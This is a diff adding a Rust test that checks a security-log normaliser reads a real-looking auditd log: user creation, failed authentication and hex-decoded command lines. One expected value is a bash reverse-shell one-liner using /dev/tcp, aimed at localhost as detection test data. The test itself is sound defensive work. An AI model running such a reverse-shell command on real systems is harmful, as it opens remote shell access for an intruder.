@@ -136,6 +136,56 @@ fn auditd_records_keep_their_fields_for_sigma_rules() {
     assert!(d.matches(&e[1]).is_empty());
 }
 
+/// A real audit.log (auditd 3.0.9, Debian 12, enriched format), each line
+/// as the agent sends it.
+#[test]
+fn records_of_a_real_audit_log_are_read() {
+    let path = format!("{}/tests/fixtures/lines/auditd_debian12.log", env!("CARGO_MANIFEST_DIR"));
+    let text = std::fs::read_to_string(path).expect("fixture");
+    let origin = Origin { received_ms: RECEIVED, host: Some("web1".into()), linux: true };
+    let events: Vec<SecEvent> = text
+        .split('\n')
+        .filter(|l| !l.is_empty())
+        .map(|l| normalise(&syslog::SyslogLine { app: Some("auditd".into()), msg: l.into(), ..Default::default() }, &origin))
+        .collect();
+    assert!(events.iter().all(|e| e.dataset == "auditd" && !e.message.contains('\u{1d}')), "{events:?}");
+    let record = |kind: &str, serial: &str| {
+        events
+            .iter()
+            .find(|e| e.label("type") == Some(kind) && e.message.contains(&format!(":{serial}):")))
+            .unwrap_or_else(|| panic!("{kind} {serial}"))
+    };
+    assert_eq!(events[0].at_ms, 1_795_524_917_596, "the record's own time");
+    // The enriched names after 0x1D neither spoil `res` nor get lost.
+    let added = record("ADD_USER", "8");
+    assert_eq!((added.category, added.outcome), (Category::Iam, Some(Outcome::Success)));
+    assert_eq!((added.label("op"), added.label("ID")), (Some("adding"), Some("unknown(1001)")));
+    assert_eq!(added.user.as_deref(), Some("root"), "no acct, AUID unset: UID names who");
+    let failed = record("USER_AUTH", "87");
+    assert_eq!((failed.category, failed.outcome), (Category::Authentication, Some(Outcome::Failure)));
+    assert_eq!((failed.user.as_deref(), failed.label("UID")), (Some("root"), Some("nobody")));
+    assert_eq!(failed.label("terminal"), Some("/dev/pts/0"));
+    // Hex-encoded arguments and process titles read as text.
+    let shell = record("EXECVE", "67");
+    assert_eq!(shell.label("a2"), Some("bash -i >& /dev/tcp/127.0.0.1/9 0>&1"));
+    assert_eq!(shell.command_line.as_deref(), Some("bash -c bash -i >& /dev/tcp/127.0.0.1/9 0>&1"));
+    assert_eq!(record("PROCTITLE", "67").command_line, shell.command_line);
+    assert_eq!(record("PROCTITLE", "5").command_line.as_deref(), Some("useradd -M leitstand-probe"));
+    let syscall = record("SYSCALL", "67");
+    assert!(syscall.label("a0").is_some_and(|v| v.bytes().all(|b| b.is_ascii_hexdigit())), "registers stay");
+    assert_eq!((syscall.label("SYSCALL"), syscall.label("key")), (Some("execve"), Some("exec")));
+    assert_eq!((syscall.process.as_deref(), syscall.outcome), (Some("bash"), Some(Outcome::Success)));
+    // A quoted value that looks like hex is text.
+    let quoted = normalise(
+        &syslog::SyslogLine {
+            msg: "type=EXECVE msg=audit(1795524970.000:92): argc=2 a0=\"echo\" a1=\"CAFE\"".into(),
+            ..Default::default()
+        },
+        &origin,
+    );
+    assert_eq!(quoted.command_line.as_deref(), Some("echo CAFE"));
+}
+
 #[derive(serde::Deserialize)]
 struct Cases {
     case: Vec<Case>,
